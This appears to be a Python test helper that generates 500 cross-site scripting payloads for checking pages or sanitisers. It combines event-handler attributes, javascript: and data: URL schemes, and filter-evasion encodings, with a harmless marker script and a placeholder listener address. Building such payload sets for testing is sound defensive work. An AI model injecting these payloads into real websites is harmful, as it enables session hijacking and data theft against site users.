"""Texts that run, load or send something where a page takes them for its own: 500 of them, the same ones each time.

Each says ``window.__pwn=1`` where it can run, and names the address of the test's listener where it can load. Sources: OWASP XSS Filter Evasion Cheat Sheet,
PortSwigger's cheat sheet (event handlers by element), cure53's notes on mutation, CSS and DOM clobbering; htmx's attribute reference.
"""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path

RUN = "window.__pwn=1"
WHERE = "http://LISTENER"
"""Stands for the listener's address."""

COUNT = 500

_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onfocusin",
    "onmouseover",
    "onpointerenter",
    "onpointerover",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "ontoggle",
    "onbeforetoggle",
    "onbegin",
    "onrepeat",
    "oninput",
    "onscroll",
    "onscrollend",
    "onwheel",
    "onresize",
    "onpageshow",
    "onhashchange",
    "onpopstate",
    "oncontentvisibilityautostatechange",
    "onbeforematch",
    "onsecuritypolicyviolation",
]
_HOLDERS = (
    "<img src=x {e}={r}>",
    "<svg {e}={r}>",
    "<body {e}={r}>",
    "<video autoplay {e}={r}><source src=x>",
    "<details open {e}={r}><summary>s",
    "<input autofocus {e}={r}>",
    "<x tabindex=0 id=x {e}={r}>",
    "<style {e}={r}>*{{}}</style>",
)
_SCHEMES = (
    "javascript:{r}",
    "JaVaScRiPt:{r}",
    "java\tscript:{r}",
    "java\nscript:{r}",
    "\x01javascript:{r}",
    "&#106;avascript:{r}",
    "javascript&colon;{r}",
    "data:text/html,<script>{r}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==",
    "vbscript:{r}",
    "blob:{w}/x",
    "//LISTENER/x",
    "{w}/x",
)
_LINKS = (
    '<a href="{s}">go</a>',
    "[go]({s})",
    "![see]({s})",
    "[go]: {s}\n[go]",
    "<{s}>",
    '<iframe src="{s}"></iframe>',
    '<form action="{s}"><button>b</button></form>',
    '<button formaction="{s}">b</button>',
    '<svg><a xlink:href="{s}"><text>t</text></a></svg>',
    '<object data="{s}"></object>',
    '<meta http-equiv=refresh content="0;url={s}">',
    '<base href="{s}">',
)
_WRITTEN = Path(__file__).parents[2] / "data" / "hostile_texts.jsonl"
"""Those of no family, a JSON string a line."""


def payloads(listener: str = "LISTENER") -> tuple[str, ...]:
    """500 of them, each once. ``listener``: host and port that what loads would load from."""
    written = (json.loads(line) for line in _WRITTEN.read_text().splitlines())
    found = [one.replace("WHERE", WHERE).replace("RUN", RUN) for one in written]
    found += [link.format(s=scheme.format(r=RUN, w=WHERE)) for link, scheme in product(_LINKS, _SCHEMES)]
    found += [holder.format(e=event, r=RUN) for event, holder in product(_EVENTS, _HOLDERS)]
    once = tuple(dict.fromkeys(found))[:COUNT]
    assert len(once) == COUNT, len(once)
    return tuple(one.replace("LISTENER", listener) for one in once)
